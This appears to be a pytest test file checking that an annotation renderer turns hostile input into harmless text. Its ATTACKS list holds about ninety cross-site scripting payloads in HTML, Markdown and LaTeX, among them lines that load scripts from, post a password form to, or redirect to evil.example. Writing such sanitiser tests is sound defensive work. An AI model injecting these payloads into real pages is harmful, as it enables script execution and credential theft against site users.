"""No text, however written, brings a script, a request or a form onto the page."""

import pytest

from annotation.rendering import differences, render, render_raw
from tests.rendering.checks import assert_safe, tags_of

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><style>*{background:url(//evil.example)}</style></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<p id=desk class=btn tabindex=1 accesskey=s>x</p>",
    "<textarea><script>alert(1)</script></textarea>",
    "<math><mi href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/logout/)",
    "[x](#desk)",
    "[x](?next=//evil.example)",
    "[x](https://a.example 'onmouseover=alert(1)')",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "<https://a.example/'onmouseover='alert(1)>",
    'https://a.example/"onmouseover="alert(1)',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](x 'onerror=alert(1)')",
    '![" onerror="alert(1)](x)',
    "![<script>alert(1)</script>](x)",
    "[![x](https://evil.example/pixel.png)](javascript:alert(1))",
    "```<script>\nalert(1)\n```",
    "```html\n<script>alert(1)</script>\n```",
    '```"onload=alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\style{background:url(//evil.example)}{x}$",
    "$\\class{btn}{x}$",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "$$\\color{red;background:url(//evil.example)}x$$",
    "$\\includegraphics{//evil.example/x.png}$",
    "\\(\\mbox{</math><script>alert(1)</script>}\\)",
    "\\[\\text{&lt;script&gt;alert(1)&lt;/script&gt;}\\]",
    "$\\foo{<script>alert(1)</script>}$",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"onload=alert(1)]\n\n[^"onload=alert(1)]: x',
    "- [x] <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\ud83d<script>alert(1)</script>\ude00",
    "\u202e<script>alert(1)</script>",
    "<br onclick=alert(1)>",
    "<br/onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_rendered_as_harmless_text(attack: str) -> None:
    for text in (
        attack,
        f"> {attack}",
        f"- {attack}",
        f"**{attack}**",
        f"a {attack} b",
    ):
        assert_safe(render(text))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_shown_raw_as_harmless_text(attack: str) -> None:
    assert_safe(render_raw(attack))
    ours, _ = differences(attack, "nothing of it")
    assert set(tags_of(render_raw(attack, ours))) <= {"pre", "mark"}
    assert_safe(render_raw(attack, ours))


def test_attacks_do_not_help_each_other() -> None:
    assert_safe(render("\n\n".join(ATTACKS)))
    assert_safe(render(" ".join(ATTACKS)))
    assert_safe(render("\n".join(ATTACKS)))
